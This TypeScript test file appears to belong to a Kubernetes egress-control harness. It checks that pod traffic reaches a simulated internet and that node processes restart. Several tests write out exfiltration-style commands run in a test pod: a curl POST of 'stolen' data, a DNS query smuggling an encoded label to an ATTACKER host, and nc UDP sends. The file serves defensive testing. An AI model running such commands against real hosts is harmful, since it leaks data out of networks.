/** The ground the suites stand on, without Weir: what a pod sends does arrive outside and is counted there; the node's processes end and start. */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import * as harness from './harness/index.ts';

const { HOSTS, ATTACKER } = harness;

harness.describeOwn('the outside', () => {
  let internet: harness.Internet;
  let namespace: harness.Namespace;

  beforeAll(async () => {
    await harness.mustBeUp();
    internet = await harness.Internet.start({ registry: true });
    namespace = await harness.Namespace.create('ground', { inject: false });
    await namespace.apply({
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'outside' },
      data: { 'ca.crt': internet.ca },
    });
    await namespace.pod('build', {
      env: { CURL_CA_BUNDLE: '/outside/ca.crt', NODE_EXTRA_CA_CERTS: '/outside/ca.crt' },
      container: { volumeMounts: [{ name: 'outside', mountPath: '/outside' }] },
      spec: { volumes: [{ name: 'outside', configMap: { name: 'outside' } }] },
    });
    await internet.reset();
  });
  afterAll(async () => {
    await namespace?.delete();
    await internet?.stop();
  });

  const build = (...argv: string[]) => namespace.exec('build', argv);

  test('a host is many: a POST to one arrives whole, by its name', async () => {
    const { status, stderr } = await build(
      'curl',
      '-sS',
      '--data',
      'stolen',
      `https://${HOSTS.analytics.name}/v1/events`,
    );
    expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
    expect(await internet.bodiesTo(HOSTS.analytics.name)).toEqual(['stolen']);
    expect(await internet.stray()).not.toContainEqual(expect.objectContaining({ protocol: 'tcp' }));
  });

  test('a label of a DNS query arrives, and is counted', async () => {
    const { stdout } = await build('dig', '+short', '+noedns', `c3RvbGVu.x.${ATTACKER.name}`);
    expect(stdout.trim()).toBe(ATTACKER.v4);
    const { questions } = await internet.arrivals();
    expect(questions.map((question) => question.toString('latin1')).join()).toContain('c3RvbGVu');
    expect(await internet.stray()).toContainEqual(expect.objectContaining({ protocol: 'udp', port: 53 }));
  });

  test('a datagram, an echo request and a connection to an address are counted, by both families', async () => {
    await internet.reset();
    await build(
      'sh',
      '-c',
      'echo x | nc -u -w1 192.0.2.7 9; echo x | nc -u -w1 2001:db8::7 9; ping -c1 -W1 192.0.2.8; true',
    );
    await build('curl', '-sS', 'http://192.0.2.9:8080/');
    const seen = (await internet.stray()).map(
      ({ protocol, destination, port }) => `${protocol} ${destination} ${port}`,
    );
    expect(seen).toEqual(
      expect.arrayContaining(['udp 192.0.2.7 9', 'udp 2001:db8::7 9', 'icmp 192.0.2.8 8', 'tcp 192.0.2.9 8080']),
    );
  });

  test('npm installs from the registry', async () => {
    const { status, stderr } = await build(
      'sh',
      '-c',
      'mkdir -p /tmp/p && cd /tmp/p && npm install --no-audit --no-fund is-number@7.0.0',
    );
    expect(status, stderr).toBe(0);
    const { stdout } = await build('node', '-p', 'require("/tmp/p/node_modules/is-number")(5)');
    expect(stdout.trim()).toBe('true');
  });
});

harness.describeOwn('the node', () => {
  test('a killed API server comes back when it is started', async () => {
    const id = () => readFileSync(`${harness.stateDirectory}/apiserver.pid`, 'utf8');
    const before = id();
    await harness.nodeProcesses('kill', 'apiserver');
    expect((await harness.tryKubectl(['get', '--raw', '/readyz'])).status).not.toBe(0);
    await harness.nodeProcesses('start', 'apiserver');
    expect(await harness.kubectl(['get', '--raw', '/readyz'])).toBe('ok');
    expect(id()).not.toBe(before);
  });

  test('kubelet and containerd end and start, and a pod outlives it', async () => {
    const namespace = await harness.Namespace.create('restart', { inject: false });
    try {
      const started = ({ status }: harness.KubeObject) =>
        (status as { containerStatuses: { containerID: string; restartCount: number }[] }).containerStatuses[0];
      const before = started(await namespace.pod('build'));
      await harness.nodeProcesses('restart', 'containerd', 'kubelet');
      // The kubelet answers before it has heard of its pods.
      await harness.until('a command runs in the pod', async () =>
        (await namespace.exec('build', ['true'])).status === 0 ? true : undefined,
      );
      expect(started(await namespace.get('pod/build'))).toMatchObject({ ...before, restartCount: 0 });
    } finally {
      await namespace.delete();
    }
  });
});

test('a Job says how it ended and what it said', async () => {
  const namespace = await harness.Namespace.create('job', { inject: false });
  try {
    const good = await namespace.job('good', { command: ['echo', 'hello'] });
    expect({ succeeded: good.succeeded, log: good.log }).toEqual({ succeeded: true, log: 'hello\n' });
    const bad = await namespace.job('bad', { command: ['sh', '-c', 'echo no; exit 3'] });
    expect({ succeeded: bad.succeeded, log: bad.log }).toEqual({ succeeded: false, log: 'no\n' });
  } finally {
    await namespace.delete();
  }
});
